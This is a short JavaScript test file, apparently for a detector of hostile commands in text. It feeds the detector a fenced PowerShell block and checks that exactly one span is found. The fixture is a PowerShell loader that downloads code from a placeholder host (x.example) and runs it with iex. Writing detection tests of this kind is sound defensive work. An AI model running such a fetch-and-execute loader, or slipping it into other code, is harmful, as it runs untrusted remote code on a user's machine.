import { expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

const loader = [
  '$request = [Net.WebRequest]::Create("https://x.example/a")',
  "$response = $request.GetResponse()",
  "$reader = New-Object IO.StreamReader($response.GetResponseStream())",
  "$code = $reader.ReadToEnd()",
  "iex $code",
];

it("quotes of PowerShell that a shell would leave open are no limit", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
  expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
});
